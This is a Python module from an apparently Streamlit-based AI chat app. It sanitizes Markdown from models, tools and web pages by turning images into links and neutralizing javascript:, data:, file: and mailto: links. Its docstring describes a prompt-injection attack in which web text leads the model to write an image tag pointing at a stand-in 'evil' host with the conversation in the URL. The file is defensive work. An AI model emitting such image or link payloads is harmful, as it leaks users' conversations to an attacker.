"""The one rule for showing text the app did not write: Markdown without images, and without links
other than http(s).

Everything shown that came from a model, a tool, a web page, a file or another user (answers,
reasoning, conversation titles, tool names, errors, captions, file names, source labels) goes
through `safe_markdown` (text meant as Markdown) or `plain` (labels and names: every Markdown
character escaped). Model output is never rendered as HTML (`st.markdown` escapes raw HTML unless
`unsafe_allow_html`, which the app never sets).

Images: text the model read on the web could make it write `![x](https://evil/?q=<conversation>)`,
and the user's browser would send that request. CommonMark opens every image (inline, reference,
shortcut) with the two adjacent characters `![`, and nothing else (entities, escapes) can produce
them. So the output never contains `![`: each run of `!` before a `[` loses the `!` that made the
image, the rest of the run is kept apart from the bracket by a space, and the image becomes a link
labelled 🖼.

Links: an inline link, a reference definition or an autolink whose destination has a scheme other
than http or https (`data:`, `file:`, `javascript:`, `mailto:`; spelt with entities, escapes, tabs
or capitals) loses the bracket that made it a link, escaped with a backslash, so it shows as text.
Relative destinations stay (they can only point back at the app). Bare e-mail addresses are left
alone: GitHub Markdown makes them `mailto:` links, which send nothing unless clicked.

A stream is shown whole each time (`SafeMarkdownStream`), so a link completed by a later chunk is
judged with its destination.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable

LINKED_IMAGE = "[🖼 "
ALLOWED_SCHEMES = {"http", "https"}
_IMAGE_OPEN = re.compile(r"(!+)\[")
_INLINE_LINK = re.compile(r"\]\(\s*<?([^\s)>]*)")
_REFERENCE = re.compile(r"(?m)^([ \t>*+\-\d.)]*)\[((?:[^\[\]\\\n]|\\.){0,999})\]:[ \t]*\n?[ \t]*<?(\S*)")
_AUTOLINK = re.compile(r"<([^\s<>]*)>")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
_URL_NOISE = re.compile(r"[\t\n\r]")
_INLINE_SPECIALS = re.compile(r"([\\`*_\[\]<>!~|$&])")


def plain(text: str) -> str:
    """`text` shown as it is (labels, names, titles): the characters that open Markdown's inline
    constructs escaped. Only those: widget labels show some other escapes literally (`127\\.0`)."""
    return _INLINE_SPECIALS.sub(r"\\\1", text)


def safe_markdown(text: str) -> str:
    """Markdown with every image turned into a link and every non-http(s) link into text."""
    if "![" in text:
        text = _IMAGE_OPEN.sub(_as_link, text)
    if "](" in text:
        text = _INLINE_LINK.sub(_inline_link, text)
    if "]:" in text:
        text = _REFERENCE.sub(_reference, text)
    if "<" in text:
        text = _AUTOLINK.sub(_autolink, text)
    return text


def _as_link(match: re.Match[str]) -> str:
    kept = match.group(1)[1:]
    return f"{kept} {LINKED_IMAGE}" if kept else LINKED_IMAGE


def _scheme(destination: str) -> str | None:
    """The scheme a browser would see in a Markdown destination (entities and escapes decoded,
    tabs and line breaks dropped, leading controls and spaces stripped), lower case; None if relative."""
    url = _URL_NOISE.sub("", html.unescape(_ESCAPED.sub(r"\1", destination))).lstrip("\x00- ")
    found = _SCHEME.match(url)
    return found.group(1).lower() if found else None


def _unsafe(destination: str) -> bool:
    scheme = _scheme(destination)
    return scheme is not None and scheme not in ALLOWED_SCHEMES


def _inline_link(match: re.Match[str]) -> str:
    whole = match.group(0)
    return "]\\(" + whole[2:] if _unsafe(match.group(1)) else whole


def _reference(match: re.Match[str]) -> str:
    whole = match.group(0)
    if not _unsafe(match.group(3)):
        return whole
    prefix = match.group(1)
    return prefix + "\\" + whole[len(prefix) :]


def _autolink(match: re.Match[str]) -> str:
    target = match.group(1)
    scheme = _scheme(target)
    email = scheme is None and "@" in target
    if email or (scheme is not None and scheme not in ALLOWED_SCHEMES and ":" in target):
        return "\\" + match.group(0)
    return match.group(0)


class SafeMarkdownStream:
    """`safe_markdown` for a streamed text: each `feed` returns the whole text so far, made safe,
    to be shown in place of the previous one (a link's destination may arrive in a later chunk).
    `transform` turns the text so far into the Markdown to show (citations into links) first."""

    def __init__(self, transform: Callable[[str], str] | None = None) -> None:
        self._text = ""
        self._transform = transform

    def feed(self, chunk: str) -> str:
        self._text += chunk
        return safe_markdown(self._transform(self._text) if self._transform else self._text)

    @property
    def text(self) -> str:
        return self._text
